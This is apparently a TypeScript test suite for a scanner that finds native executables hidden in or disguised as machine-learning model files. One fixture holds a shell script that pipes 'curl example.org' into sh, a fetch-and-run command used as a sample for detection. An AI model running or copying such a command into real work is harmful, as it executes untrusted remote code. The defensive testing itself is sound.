import { readdirSync, readFileSync } from 'node:fs';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { readExecutable } from '../../src/formats/executables/headers.ts';
import { assess } from '../../src/pipeline/assess.ts';
import { SCANNERS } from '../../src/scan/scanners.ts';
import { artifactOf, memoryFile } from '../support/artifacts.ts';
import { message, onnxModel, RELU } from '../support/onnx-messages.ts';
import { scanBytes } from '../support/scan-bytes.ts';
import { noise } from '../support/temp.ts';

const FOLDER = 'fixtures/executables';
const NAMES = readdirSync(FOLDER);
const real = (name: string) => readFileSync(`${FOLDER}/${name}`);
const ELF = real('elf-x86-64.so');
const WHAT: Readonly<Record<string, string>> = {
  'elf-x86-64.so': '64-bit ELF program or library for x86-64',
  'elf-aarch64.so': '64-bit ELF program or library for AArch64',
  'pe-x86-64.pyd': 'Windows library for x86-64',
  'mach-o-universal.so': 'universal Mach-O binary of 2 parts',
  'mach-o-aarch64.so': 'Mach-O library for AArch64',
};

async function of(path: string, bytes: Uint8Array) {
  const { files, findings } = await assess(artifactOf([memoryFile(path, bytes)]));
  return { verdict: files[0]?.verdict, rules: [...new Set(findings.map(({ ruleId }) => ruleId))].sort(), findings };
}

describe('machine code', () => {
  it.each(NAMES)('is told by its header: %s', (name) => {
    const bytes = real(name);
    expect(readExecutable(bytes.subarray(0, 4096), bytes.length)?.what).toBe(WHAT[name]);
  });

  it.each(NAMES)('of its own name is suspicious, and named: %s', async (name) => {
    const found = await of(`lib/${name}`, real(name));
    expect(found).toMatchObject({ verdict: 'suspicious', rules: ['native.executable'] });
    expect(found.findings[0]?.message).toContain(WHAT[name]);
  });

  it('that Python imports is named so', async () => {
    for (const path of ['_x.cpython-311-x86_64-linux-gnu.so', '_x.abi3.so', '_x.cp311-win_amd64.pyd'])
      expect((await of(path, ELF)).findings.map(({ message }) => message).join()).toContain(
        'that Python loads when its name is imported',
      );
  });

  const names = [
    'model.safetensors',
    'a/m.gguf',
    'm.onnx',
    'm.pt',
    'm.pth',
    'm.pkl',
    'm.h5',
    'm.npz',
    'm.GGUF',
    'm.tflite',
    'm.mlmodel',
  ];
  it.each([...names, 'pytorch_model.bin', 'pytorch_model-00001-of-00002.bin', 'adapter_model.bin'])(
    'with the name of a model is malicious: %s',
    async (path) => {
      for (const bytes of [ELF, real('pe-x86-64.pyd'), Buffer.from('#!/bin/sh\ncurl example.org | sh\n')]) {
        const { verdict, rules } = await of(path, bytes);
        expect(verdict).toBe('malicious');
        expect(rules).toContain('native.disguised');
      }
    },
  );

  it('with a name of anything is suspicious', async () => {
    for (const path of ['firmware.bin', 'plugin', 'm.llamafile', 'x.dat'])
      expect((await of(path, ELF)).verdict, path).toBe('suspicious');
  });
});

function safetensors(tensor: Uint8Array, metadata: Readonly<Record<string, string>> = {}): Buffer {
  const first = Buffer.alloc(64, 1);
  const json = JSON.stringify({
    __metadata__: metadata,
    a: { dtype: 'U8', shape: [64], data_offsets: [0, 64] },
    b: { dtype: 'U8', shape: [tensor.length], data_offsets: [64, 64 + tensor.length] },
  });
  const length = Buffer.alloc(8);
  length.writeBigUInt64LE(BigInt(Buffer.byteLength(json)));
  return Buffer.concat([length, Buffer.from(json), first, tensor]);
}

function gguf(tensor: Uint8Array): Buffer {
  const u32 = (value: number) => Buffer.from(Uint32Array.of(value).buffer);
  const u64 = (value: number) => Buffer.from(BigUint64Array.of(BigInt(value)).buffer);
  const text = (value: string) => Buffer.concat([u64(value.length), Buffer.from(value)]);
  // One tensor of 8-bit integers.
  const head = Buffer.concat([
    Buffer.from('GGUF'),
    u32(3),
    u64(1),
    u64(0),
    text('t'),
    u32(1),
    u64(tensor.length),
    u32(24),
    u64(0),
  ]);
  return Buffer.concat([head, Buffer.alloc(-head.length & 31), tensor, Buffer.alloc(-tensor.length & 31)]);
}

function onnx(tensor: Uint8Array): Uint8Array {
  return onnxModel({
    graph: (graph) => {
      RELU(graph);
      graph.message(
        5,
        message((one) => {
          one.varint(1, tensor.length);
          one.varint(2, 2);
          one.bytes(9, tensor);
        }),
      );
    },
  });
}

describe('a tensor', () => {
  const kinds = [
    ['m.safetensors', safetensors],
    ['m.gguf', gguf],
    ['m.onnx', onnx],
  ] as const;

  it.each(kinds)('that is machine code is found (%s)', async (path, make) => {
    for (const name of NAMES) {
      const { verdict, context } = await scanBytes(make(real(name)), path, SCANNERS);
      expect(verdict, name).toBe('suspicious');
      expect(context.ruleIds(), name).toContain('native.embedded');
    }
  });

  it.each(kinds)('that begins with the mark of machine code alone is numbers (%s)', async (path, make) => {
    for (const mark of [
      '7f454c46',
      '7f454c4602010100',
      '4d5a9000',
      'cafebabe00000002',
      'cffaedfe07000001',
      'feedface',
    ]) {
      const bytes = noise(4_096, 5);
      bytes.set(Buffer.from(mark, 'hex'));
      const { verdict, context } = await scanBytes(make(bytes), path, SCANNERS);
      expect({ mark, verdict, rules: context.ruleIds() }).toEqual({ mark, verdict: 'clean', rules: [] });
    }
  });
});

describe('text that holds machine code', () => {
  it.each([
    ['a library', ELF.subarray(0, 60).toString('base64')],
    ['a program of Windows', Buffer.from('4d5a90000300000004000000ffff0000', 'hex').toString('base64')],
    ['a script', '#!/bin/sh\nid'],
  ])('in metadata is suspicious: %s', async (_, text) => {
    const { context } = await scanBytes(safetensors(noise(64, 1), { note: text }), 'm.safetensors', SCANNERS);
    expect(context.ruleIds()).toEqual(['safetensors.metadata-script']);
  });
});

describe('bytes that are not machine code', () => {
  it('are never taken for it', () => {
    const magics = ['7f454c46', '4d5a', 'cafebabe', 'cafebabf', 'feedface', 'feedfacf', 'cefaedfe', 'cffaedfe'].map(
      (hex) => Buffer.from(hex, 'hex'),
    );
    let found = 0;
    fc.assert(
      fc.property(
        fc.constantFrom(...magics),
        fc.uint8Array({ minLength: 64, maxLength: 512 }),
        fc.nat(2 ** 31),
        (magic, bytes, more) => {
          bytes.set(magic);
          if (readExecutable(bytes, bytes.length + more) !== undefined) found++;
        },
      ),
      { numRuns: 20_000, seed: 1 },
    );
    expect(found).toBe(0);
  });

  it('give an answer wherever a real header is changed', () => {
    for (const name of NAMES) {
      const bytes = real(name).subarray(0, 600);
      for (let at = 0; at < 400; at++) {
        const changed = Buffer.from(bytes);
        changed[at] = 0xff;
        readExecutable(changed, 600);
        readExecutable(changed.subarray(0, at), at);
      }
    }
  });
});
